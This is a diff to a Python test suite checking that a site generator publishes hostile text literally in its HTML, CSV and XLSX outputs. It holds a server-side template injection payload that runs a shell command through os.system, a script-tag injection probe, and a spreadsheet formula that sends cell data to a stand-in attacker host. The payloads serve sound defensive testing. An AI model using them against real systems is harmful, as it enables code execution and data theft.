@@ -289,9 +289,10 @@ def test_two_builds_at_once_still_work(build_runs):
 # ---- hostile text: published literally, never evaluated ------------------------------------------------------------
 
 def payload(tag: str, proof: Path) -> str:
-    """Template syntax that would print 49, run a shell command (creating `proof`) and drop text if evaluated."""
-    return (f"{tag} {{{{ 7*7 }}}} {{% if true %}}IF{{% endif %}} {{# hidden #}} "
-            f"{{{{ cycler.__init__.__globals__.os.system('touch {proof}') }}}} <b>bold</b> & |x|")
+    """A spreadsheet formula start, template syntax that would print 49, run a shell command (creating `proof`) and
+    drop text if evaluated, and markup that would run a script or make text bold if it were not escaped."""
+    return (f"={tag} {{{{ 7*7 }}}} {{% if true %}}IF{{% endif %}} {{# hidden #}} "
+            f"{{{{ cycler.__init__.__globals__.os.system('touch {proof}') }}}} <script>alert(1)</script> <b>bold</b> & |x|")
 
 
 FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"Click me")'
@@ -436,11 +437,28 @@ def test_hostile_text_in_plan_json_and_csv_is_unchanged_except_the_formula_guard
     assert units["commerce"]["name"]["en"] == FORMULA and units["development-and-reform-commission"]["name"]["en"] == hostile["texts"]["UNIT-EN"]
     rows = {r["id"]: r for r in csv.DictReader(io.StringIO((hostile["site"] / "data/units.csv").read_text(encoding="utf-8-sig")))}
     assert rows["commerce"]["name_en"] == "'" + FORMULA  # shown as text by Excel, WPS and LibreOffice
-    assert rows["development-and-reform-commission"]["name_en"] == hostile["texts"]["UNIT-EN"]
+    assert rows["development-and-reform-commission"]["name_en"] == "'" + hostile["texts"]["UNIT-EN"]
     measures = {r["id"]: r for r in csv.DictReader(io.StringIO((hostile["site"] / "data/measures.csv").read_text(encoding="utf-8-sig")))}
     assert measures["2.1.1"]["text_en"] == "'" + hostile["texts"]["TEXT-EN"]
     tasks = (hostile["site"] / "data/units/commerce.en.csv").read_text(encoding="utf-8-sig")
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(tasks)) for cell in row)
+
+
+def test_every_csv_cell_that_carries_hostile_text_is_defused(hostile):
+    """Every payload begins with '=': wherever one reaches a CSV download (units, places, targets, corrections,
+    sources, task tables…), the cell starts with the apostrophe that makes spreadsheets show it as text."""
+    import csv
+    import io
+
+    reached, bad = set(), []
+    for f in sorted((hostile["site"] / "data").rglob("*.csv")):
+        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8-sig"))):
+            for cell in row:
+                if cell.startswith(("=", "+", "-", "@")):
+                    bad.append((f.name, cell[:40]))
+                reached |= {tag for tag, text in hostile["texts"].items() if cell == "'" + text}
+    assert bad == []
+    assert {"UNIT-EN", "METRIC-EN", "CORR-EN", "TEXT-EN"} <= reached, reached
 
 
 def test_formulas_in_plan_text_are_text_cells_in_xlsx(hostile):
@@ -451,8 +469,8 @@ def test_formulas_in_plan_text_are_text_cells_in_xlsx(hostile):
         cells = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
         assert cells, name
         assert all(c.data_type == "s" and FORMULA in c.value for c in cells), name
-        starts = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("@SUM")]
-        assert all(c.data_type == "s" for c in starts)
+        starts = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(("@SUM", "="))]
+        assert starts and all(c.data_type == "s" for c in starts), name
 
 
 def test_hostile_text_in_the_feed_is_text(hostile):
